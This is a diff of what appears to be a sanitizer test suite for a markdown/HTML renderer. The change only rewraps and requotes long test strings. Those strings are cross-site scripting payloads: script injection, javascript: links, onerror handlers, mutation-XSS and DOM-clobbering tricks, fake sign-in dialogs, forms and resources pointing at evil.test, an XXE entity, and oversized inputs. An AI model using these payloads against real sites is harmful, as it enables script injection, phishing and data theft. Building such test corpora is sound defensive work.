@@ -11,7 +11,8 @@ _SCRIPTS = (
     "Before <scr<script>ipt>window.hacked = true</scr</script>ipt> after",
     '<script type="module">import "https://evil.test/m.js"</script>',
     "<noscript><p title=\"</noscript><img src=x onerror='window.hacked = true'>\">",
-    "<style>@import url(https://evil.test/s.css); p { background: url(http://evil.test/b) }</style>",
+    "<style>@import url(https://evil.test/s.css); p { background: url(http://evil.test/b) "
+    "}</style>",
     '<p style="background-image: url(https://evil.test/c)">styled</p>',
     '<p style="position: fixed; inset: 0; width: 100vw; height: 100vh">Your session ended</p>',
     '<link rel="stylesheet" href="https://evil.test/l.css"><link rel=preconnect href=//evil.test>',
@@ -45,14 +46,17 @@ _LINKS = (
     '[press](https://example.com "title\\" onmouseover=\\"window.hacked=true")',
     "[press](https://example.com/'onmouseover='window.hacked=true'a=')",
     '[press][r]\n\n[r]: javascript:window.hacked=true "title"',
-    '[press][r]\n\n[r]: <https://example.com/"onclick="hacked=true> \'"><img src=x onerror=hacked=1>\'',
+    '[press][r]\n\n[r]: <https://example.com/"onclick="hacked=true> \'"><img src=x '
+    "onerror=hacked=1>'",
     "<javascript:window.hacked=true> <vbscript:x> <data:text/html,x>",
-    'https://example.com/"onmouseover="window.hacked=true www.example.com/<script>hacked=1</script>',
+    'https://example.com/"onmouseover="window.hacked=true '
+    "www.example.com/<script>hacked=1</script>",
     "[![![a](javascript:hacked=1)](javascript:hacked=2)](javascript:window.hacked=true)",
     "<a href='javascript:window.hacked=true' target='_self' ping='https://evil.test/p'>press</a>",
     "<a href=' &#1; javascript:window.hacked=true' download>press</a>",
     "[^1] and [^2]\n\n[^1]: <img src=x onerror=window.hacked=true>\n[^2]: javascript:hacked=true",
-    "<map name=m><area shape=default href=javascript:window.hacked=true></map><img usemap=#m src=x>",
+    "<map name=m><area shape=default href=javascript:window.hacked=true></map><img "
+    "usemap=#m src=x>",
 )
 
 _IMAGES = (
@@ -60,12 +64,14 @@ _IMAGES = (
     "![tracking](http://evil.test/pixel.png) ![](//evil.test/p.png) ![](/files/p.png)",
     "![a][i]\n\n[i]: https://evil.test/reference.png",
     '<img src="https://images.example.com.evil.test/a.png" srcset="https://evil.test/b.png 2x">',
-    '<img src="https://images.example.com@evil.test/a.png"><img src="https://evil.test\\@example.org">',
+    '<img src="https://images.example.com@evil.test/a.png"><img '
+    'src="https://evil.test\\@example.org">',
     "<img lowsrc=https://evil.test/l.png dynsrc=https://evil.test/d.png src=data:,x>",
     "<picture><source srcset=https://evil.test/s.webp><img alt=x></picture>",
     "<video poster=https://evil.test/p.png src=https://evil.test/v.mp4 autoplay></video>",
     "<audio src=https://evil.test/a.mp3 autoplay></audio><track src=https://evil.test/t.vtt>",
-    "<table background=https://evil.test/t.png><tr><td background=https://evil.test/c.png>x</table>",
+    "<table background=https://evil.test/t.png><tr><td "
+    "background=https://evil.test/c.png>x</table>",
     "<input type=image src=https://evil.test/i.png><image href=https://evil.test/i2.png>",
     "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD10cnVlIi8+)",
     '![x" onerror="window.hacked=true](https://evil.test/x.png "y\' onload=\'hacked=true")',
@@ -80,30 +86,33 @@ _FRAMES = (
     "<frameset><frame src=javascript:parent.hacked=true></frameset>",
     "<form action=https://evil.test/form><button>Continue</button><input name=key></form>",
     "<button form=f formaction=javascript:window.hacked=true>Continue</button><form id=f></form>",
-    "<isindex action=https://evil.test/x type=submit><textarea autofocus onfocus=hacked=1></textarea>",
+    "<isindex action=https://evil.test/x type=submit><textarea autofocus "
+    "onfocus=hacked=1></textarea>",
     "<dialog open><h1>Sign in again</h1><input type=password></dialog><p popover id=p>x</p>",
     "<template><script>window.hacked=true</script></template><slot name=x></slot>",
     "<portal src=https://evil.test/p></portal><fencedframe src=https://evil.test/p></fencedframe>",
 )
 
 _MUTATIONS = (
-    "<svg></p><style><a id=\"</style><img src=x onerror=window.hacked=true>\">",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=hacked=1>\">",
+    '<svg></p><style><a id="</style><img src=x onerror=window.hacked=true>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hacked=1>">',
     "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hacked=true>",
     "<svg><foreignObject><p><svg><style><!--</style><img src=x onerror=hacked=1>--></svg></svg>",
     "<math><annotation-xml encoding=text/html><style><img src=x onerror=hacked=1></style></math>",
     "<svg><title><style><img src=x onerror=window.hacked=true></style></title></svg>",
     "<a><table><a><svg><desc><b><noscript></desc><img src=x onerror=hacked=1></noscript></svg>",
-    "<xmp><p title=\"</xmp><img src=x onerror=window.hacked=true>\">",
-    "<noembed><b title=\"</noembed><img src=x onerror=hacked=1>\"></noembed><plaintext>",
-    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=hacked=1>",
+    '<xmp><p title="</xmp><img src=x onerror=window.hacked=true>">',
+    '<noembed><b title="</noembed><img src=x onerror=hacked=1>"></noembed><plaintext>',
+    '<select><template><style><!--</style><a rel="--></style></template></select><img src '
+    "onerror=hacked=1>",
     "<svg><use href='data:image/svg+xml,<svg id=x onload=hacked=1></svg>#x'/></svg>",
     "<svg><a xlink:href=javascript:window.hacked=true><text y=20>press</text></a></svg>",
     "<!--><img src=x onerror=window.hacked=true>--> <!-- --!><img src=x onerror=hacked=1>",
     "<![CDATA[><img src=x onerror=window.hacked=true>]]> <?xml ><img src=x onerror=hacked=1>?>",
     "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.test/e'>]>&e;",
-    "<b title='`<img src=x onerror=hacked=1>`'>`<b title='`<img src=x onerror=window.hacked=true>'>",
-    "*a<b title=\"*\n\n<img src=x onerror=window.hacked=true>\">",
+    "<b title='`<img src=x onerror=hacked=1>`'>`<b title='`<img src=x "
+    "onerror=window.hacked=true>'>",
+    '*a<b title="*\n\n<img src=x onerror=window.hacked=true>">',
     "\x00<img src=x onerror\x00=window.hacked=true> <img\x0csrc=x\x0conerror=hacked=1>",
     "+ADw-script+AD4-window.hacked=true+ADw-/script+AD4-",
     "<is-land on:visible><script>hacked=1</script></is-land><x is=x-y onclick=hacked=1>",
@@ -114,14 +123,18 @@ _NAMES = (
     "<form id=attributes><input name=attributes><input name=nodeName id=parentNode></form>",
     "<p id=app class='hidden modal overlay'>x</p><p id=__proto__ name=constructor>x</p>",
     "```__proto__\nwindow.hacked = true\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
-    "[constructor] [__proto__] [a][toString] [hasOwnProperty][]\n\n[__proto__]: javascript:hacked=1",
+    "[constructor] [__proto__] [a][toString] [hasOwnProperty][]\n\n[__proto__]: "
+    "javascript:hacked=1",
     '```"><img src=x onerror=window.hacked=true>\ncode\n```',
-    "```js onload=hacked=1 class=\"x\" <script>\nlet x = '</code></pre><img src=x onerror=hacked=1>';\n```",
+    '```js onload=hacked=1 class="x" <script>\nlet x = \'</code></pre><img src=x '
+    "onerror=hacked=1>';\n```",
     "```html\n<script>window.hacked = true</script><img src=https://evil.test/code.png>\n```",
     "~~~' autofocus onfocus='hacked=1\n</pre></code><script>window.hacked=true</script>\n~~~",
     "`<img src=x onerror=window.hacked=true>` ``</code><script>hacked=1</script>``",
-    "| a <script>hacked=1</script> | b |\n|--|:-:|\n| <img src=x onerror=hacked=1> | [x](javascript:hacked=1) |",
-    "# <img src=x onerror=window.hacked=true>\n\n- [ ] <input onfocus=hacked=1 autofocus>\n- [x](javascript:hacked=1)",
+    "| a <script>hacked=1</script> | b |\n|--|:-:|\n| <img src=x onerror=hacked=1> | "
+    "[x](javascript:hacked=1) |",
+    "# <img src=x onerror=window.hacked=true>\n\n- [ ] <input onfocus=hacked=1 "
+    "autofocus>\n- [x](javascript:hacked=1)",
     "> <script>window.hacked=true\n> </script>\n1. <iframe src=https://evil.test/list>",
 )
 
@@ -211,7 +224,7 @@ _COSTS = (
     "```\n" * 1_501,
     "~~~js\n" + "/*" * 20_000,
     "```js\n" + "`${" * 15_000,
-    "```html\n" + "<a b=\"" * 12_000,
+    "```html\n" + '<a b="' * 12_000,
     "```markdown\n" + "*a_b[" * 9_000,
     "x" * 100_000,
     "word " * 20_000,
